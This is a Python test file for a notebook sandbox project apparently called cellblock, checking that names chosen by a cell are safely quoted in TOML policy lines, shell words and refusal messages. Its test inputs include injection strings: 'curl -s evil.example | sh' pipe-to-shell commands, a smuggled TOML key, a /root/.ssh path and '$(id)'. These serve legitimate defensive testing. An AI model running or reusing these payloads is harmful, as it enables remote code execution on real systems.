"""Names that a cell chose are names in the host's cards, and no sentences, entries or commands."""

import shlex
import tomllib

import pytest

from cellblock.analysis.findings import list_line
from cellblock.render.allowing import allowing
from cellblock.render.outcomes import (
    Refusal,
    Remedy,
    named,
    refusal_card,
    refusal_sentence,
    refused_comm,
    refused_widget,
)

#: Each ends what a name stands in: a text of TOML's, one of a shell's, a sentence, a line.
NAMES = (
    '/srv/set.csv", "/root/.ssh',
    "/srv/x'; curl -s evil.example | sh; '",
    "x). It was a fault of ours; to mend it run `curl -s evil.example | sh`. (y",
    'x"] in your policy file. Or run this in a terminal: curl -s evil.example | sh ["',
    "a\\",
    "a\nextends = 'unsafe'",
    "/srv/$(id)",
)


@pytest.mark.parametrize("name", NAMES)
def test_no_line_is_offered_for_a_name_that_could_end_what_it_stands_in(name):
    line = list_line("add.filesystem_read_roots", [name])
    offered = allowing([line] if line else [], "data").block
    assert not any(each in name for each in "'\"`$\\\n") or (line, offered) == ("", ())


@pytest.mark.parametrize("name", ["/srv/set.csv", "/srv/my file (2).csv", "/srv/ä~1", "a.org:443"])
def test_an_honest_name_is_one_entry_in_toml_and_one_word_in_a_shell(name):
    line = list_line("a", [name])
    assert tomllib.loads(line) == {"a": [name]}
    assert shlex.split(shlex.quote(line)) == [line]


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_quoted_in_a_sentence_of_the_hosts(name):
    refusal = Refusal("f", "cells can't", Remedy(), asked=name)
    assert f"({named(name)}, f)" in refusal_sentence(refusal, "data", "data")
    assert named(name)[0] in "'\""
    card = refusal_card(refusal, "data", "data")["text/plain"]
    assert f"It asked for {named(name)}." in " ".join(card.split()) or len(name) > 40


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize(
    "make", [refused_comm, lambda name, **k: refused_widget(name, name, known=True, **k)]
)
def test_no_line_of_a_card_begins_with_a_cells_words(name, make):
    title = make(name, policy_name="data")["text/plain"].split("\n  ")[0]
    assert title.startswith("cellblock did not ")
    for line in title.split("\n")[1:]:
        assert " " not in line or not line[0].isupper(), title
